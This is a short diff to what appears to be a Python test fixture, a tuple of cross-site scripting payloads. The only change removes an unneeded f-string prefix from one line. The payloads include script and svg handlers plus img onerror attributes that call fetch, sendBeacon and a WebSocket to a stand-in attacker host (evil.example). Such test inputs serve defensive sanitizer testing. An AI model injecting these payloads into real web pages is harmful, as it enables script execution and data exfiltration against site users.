@@ -113,7 +113,7 @@ _FOREIGN = (
     "<script>confirm(1)</script>",
     "<svg onload=prompt(1)>",
     f"<img src=x onerror=fetch('{_EVIL}')>",
-    f"<img src=x onerror=\"new WebSocket('ws://evil.example/x')\">",
+    "<img src=x onerror=\"new WebSocket('ws://evil.example/x')\">",
     f"<img src=x onerror=navigator.sendBeacon('{_EVIL}')>",
 )
 
